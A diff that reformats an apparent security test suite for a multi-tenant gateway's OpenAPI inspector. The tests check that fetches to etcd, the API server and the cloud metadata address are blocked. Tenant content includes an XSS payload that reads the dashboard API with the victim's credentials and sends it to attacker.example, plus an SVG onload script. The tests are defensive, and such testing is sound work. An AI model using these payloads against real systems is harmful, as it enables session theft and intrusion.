@@ -61,8 +61,10 @@ def test_the_exposed_url_cannot_reach_etcd_or_the_api_server(cluster, namespace,
             conn, _ = listener.accept()
             with conn:
                 conn.recv(65536)
-                conn.sendall(f"HTTP/1.1 307 Temporary Redirect\r\nLocation: {state.etcd_url}/v3/kv/range\r\n"
-                             "Content-Length: 0\r\nConnection: close\r\n\r\n".encode())
+                conn.sendall(
+                    f"HTTP/1.1 307 Temporary Redirect\r\nLocation: {state.etcd_url}/v3/kv/range\r\n"
+                    "Content-Length: 0\r\nConnection: close\r\n\r\n".encode()
+                )
 
         server = threading.Thread(target=redirect, daemon=True)
         server.start()
@@ -76,20 +78,35 @@ def test_the_inspector_cannot_fetch_the_stack_either(cluster, namespace, gateway
     state = localkube.ClusterState.load(cluster.state_dir)
     token = vng_token(cluster, gateway, namespace)
     with api(gateway, token) as vng:
-        for url in (state.etcd_url + "/version", state.api_url + "/openapi/v3", gateway.url + "/healthz",
-                    "http://169.254.169.254/latest/meta-data/"):
+        for url in (
+            state.etcd_url + "/version",
+            state.api_url + "/openapi/v3",
+            gateway.url + "/healthz",
+            "http://169.254.169.254/latest/meta-data/",
+        ):
             answer = vng.post("/api/v1/openAPIinspector", json={"url": url})
             assert answer.status_code == 400 and answer.json() == {
-                "url": "The link provided points to an address the gateway may not reach."}, (url, answer.text)
+                "url": "The link provided points to an address the gateway may not reach."
+            }, (url, answer.text)
 
 
 def test_tenant_content_cannot_act_as_the_gateways_page(cluster, namespace, gateway, two_tenants_operator):
-    page = (b"<html><script>fetch('/dashboard/api/loadtests',{credentials:'include'})"
-            b".then(r=>r.text()).then(t=>fetch('https://attacker.example/?'+t))</script></html>")
-    routes = {"/page": ({"Content-Type": "text/html", "Set-Cookie": "assay_session=planted; Path=/dashboard",
-                         "Content-Security-Policy": "default-src *"}, page),
-              "/svg": ({"Content-Type": "image/svg+xml"}, b"<svg onload='alert(1)'/>"),
-              "/data": ({"Content-Type": "application/json"}, b'{"ok": true}')}
+    page = (
+        b"<html><script>fetch('/dashboard/api/loadtests',{credentials:'include'})"
+        b".then(r=>r.text()).then(t=>fetch('https://attacker.example/?'+t))</script></html>"
+    )
+    routes = {
+        "/page": (
+            {
+                "Content-Type": "text/html",
+                "Set-Cookie": "assay_session=planted; Path=/dashboard",
+                "Content-Security-Policy": "default-src *",
+            },
+            page,
+        ),
+        "/svg": ({"Content-Type": "image/svg+xml"}, b"<svg onload='alert(1)'/>"),
+        "/data": ({"Content-Type": "application/json"}, b'{"ok": true}'),
+    }
     with PageServer(routes) as target:
         token = vng_token(cluster, gateway, namespace)
         exposed = open_session(cluster, gateway, namespace, token, target.url)
@@ -166,8 +183,9 @@ class QuickDeadlineGateway(GatewayProcess):
         return {**super().env, "ASSAY_OUTBOUND_DEADLINE_SECONDS": "8", "ASSAY_OUTBOUND_PER_TENANT": "4"}
 
 
-def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(cluster, namespace, other_account,
-                                                                        tmp_path, two_tenants_operator, gateway):
+def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(
+    cluster, namespace, other_account, tmp_path, two_tenants_operator, gateway
+):
     quick = QuickDeadlineGateway(cluster, tmp_path / "quick-store", tmp_path / "quick.log").start()
     trickle = TrickleServer()
     try:
@@ -176,8 +194,12 @@ def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(cluster,
 
         def inspect(_):
             started = time.monotonic()
-            answer = httpx.post(quick.url + "/api/v1/openAPIinspector", json={"url": trickle.url},
-                                headers={"Authorization": f"Token {attacker}"}, timeout=60)
+            answer = httpx.post(
+                quick.url + "/api/v1/openAPIinspector",
+                json={"url": trickle.url},
+                headers={"Authorization": f"Token {attacker}"},
+                timeout=60,
+            )
             return answer.status_code, time.monotonic() - started
 
         with ThreadPoolExecutor(45) as pool:
@@ -189,8 +211,9 @@ def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(cluster,
                 assert httpx.get(quick.url + "/healthz", timeout=10).status_code == 200
                 healthz.append(time.monotonic() - began)
                 began = time.monotonic()
-                listed = httpx.get(quick.url + "/api/v1/sessiontypes/", headers={"Authorization": f"Token {bystander}"},
-                                   timeout=10)
+                listed = httpx.get(
+                    quick.url + "/api/v1/sessiontypes/", headers={"Authorization": f"Token {bystander}"}, timeout=10
+                )
                 assert listed.status_code == 200
                 others.append(time.monotonic() - began)
                 time.sleep(0.3)
